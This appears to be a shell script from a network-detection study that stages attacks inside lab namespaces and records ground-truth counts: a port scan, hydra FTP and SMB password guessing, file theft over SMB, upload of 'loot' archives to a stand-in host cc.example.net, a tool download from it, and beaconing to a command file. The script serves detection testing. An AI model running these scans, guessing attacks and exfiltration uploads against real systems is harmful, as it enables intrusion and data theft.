# What the study staged, each from its own client; sourced by ./inside. What was really done is noted
# in $OUT/facts (name=value), counted by somebody else than Furumai: the servers' logs and file sizes,
# the interfaces' counters, the tools' own words.

share=//10.20.0.10/share
user=victim01

fact() { echo "$1=$2" >>"$OUT/facts"; }

port_scan() {
    timeout 120 ip netns exec cl1 nmap -n -Pn -sS -oX "$W/nmap.xml" -p "$ports" 10.20.0.10 >/dev/null
    fact scan_ports "$(sed -n 's/.*<scaninfo.*numservices="\([0-9]*\)".*/\1/p' "$W/nmap.xml")"
    fact scan_open "$(grep -o '<state state="open"' "$W/nmap.xml" | wc -l)"
}

# NS SCHEME
tool_download() {
    fact "tool_$2" "$(timeout 120 ip netns exec "$1" curl -k -s -o "$W/got.exe" \
        -w '%{size_download}' "$2://cc.example.net/tool.exe")"
}

# 7,000 pairs: ten names, seven hundred words, the right one at place 6301
make_pairs() {
    awk -v right="$user:$password" 'BEGIN {
        split("admin root ftp test backup oracle guest www user01 victim01", name)
        for (i = 1; i <= 7000; i++)
            print i == 6301 ? right : name[(i - 1) % 10 + 1] ":" sprintf("word%05d", i * 7919 % 99991)
    }' >"$W/pairs"
}

ftp_guessing() {
    local i
    make_pairs
    for i in $(seq "$ftp_runs"); do
        (cd "$W" && timeout 300 ip netns exec cl3 hydra -I -q -t 64 -C pairs ftp://10.20.0.10 \
            >"$W/hydra.$i" 2>&1) || true
    done
    fact ftp_runs "$ftp_runs"
    fact ftp_found "$(cat "$W"/hydra.* | grep -c "login: $user")"
    fact ftp_failed "$(grep -c '^10.20.0.23 PASS 530' "$W/ftp/tries")"
    fact ftp_right "$(grep -c '^10.20.0.23 PASS 230' "$W/ftp/tries")"
}

smb_login() {
    timeout 20 ip netns exec cl4 smbclient --option='netbios name=CL4' "$share" -U "$user%$1" -c ls
}

# By hand: sixty, one right per twenty
smb_guessing() {
    local i word right=0 failed=0
    for i in $(seq 60); do
        word=Summer$((1950 + i))
        [ $((i % 20)) != 0 ] || word=$password
        if smb_login "$word" >/dev/null 2>&1; then
            right=$((right + 1))
        else
            failed=$((failed + 1))
        fi
        sleep "$smb_pause"
    done
    fact smb_failed "$failed"
    fact smb_right "$right"
}

# Bulk goes in segments of up to 64 kB and at a bounded rate: on two busy processors the sensor would
# lose frames.
theft() {
    local before n size
    segments "srv cl5 out" on
    on rt ethtool -K in tso on gso on gro on tx on sg on >/dev/null 2>&1 || true
    on rt ethtool -K out tso on gso on gro on tx on sg on >/dev/null 2>&1 || true
    shape srv "$bulk_rate"
    shape cl5 "$bulk_rate"
    before=$(carried cl5 rx)
    for n in $(seq 0 "$pulls"); do
        timeout 180 ip netns exec cl5 smbclient --option='netbios name=CL5' "$share" \
            -U "$user%$password" -c "get designs$n.bin /dev/null" >/dev/null 2>&1 ||
            fail "the pull of designs$n.bin failed"
    done
    fact pulled_wire $(($(carried cl5 rx) - before))
    fact pulled_files $((pulls * pull_bytes + last_bytes))
    before=$(carried cl5 tx)
    size=0
    for n in $pushes; do
        truncate -s "$n" "$W/loot$n.zip"
        timeout 180 ip netns exec cl5 curl -sk -o "$W/answer" -X PROPFIND -H 'Depth: 0' \
            https://cc.example.net/upload/ --next -sk -o "$W/answer" -T "$W/loot$n.zip" \
            https://cc.example.net/upload/ || fail "the push of $n bytes failed"
        size=$((size + $(stat -c %s "$W/www/upload/loot$n.zip")))
        rm -f "$W/www/upload/loot$n.zip" "$W/loot$n.zip"
        sleep 1
    done
    fact pushed_wire $(($(carried cl5 tx) - before))
    fact pushed_files "$size"
}

# Ten fetches of the command file by either way, as fast as they go; pcap.py gives them their period.
# FILE: the plan, in which the i-th fetch has place i.
beacons() {
    local i host scheme
    for i in $(seq 0 9); do
        for host in bc1:http:31 bc2:https:32; do
            scheme=${host#*:}
            echo "$(date +%s.%N) 10.20.0.${host##*:} $i" >>"$1"
            timeout 20 ip netns exec "${host%%:*}" curl -sk -o "$W/answer" \
                "${scheme%:*}://cc.example.net/command-file"
        done
        sleep 0.2
    done
}

# FOLDER for the plans: a hundred minutes of twenty-two ordinary clients, as fast as they go
quiet_day() {
    local number=0 host
    mkdir -p "$1"
    for host in $quiet $beaconers; do
        number=$((number + 1))
        echo "${host%%:*} $number ${host#*:} $1/$number"
    done | timeout 300 xargs -L 1 -P 4 sh -c \
        'exec ip netns exec "$1" '"'$here/quiet.py'"' day "$2" "$3" "$4"' day
}
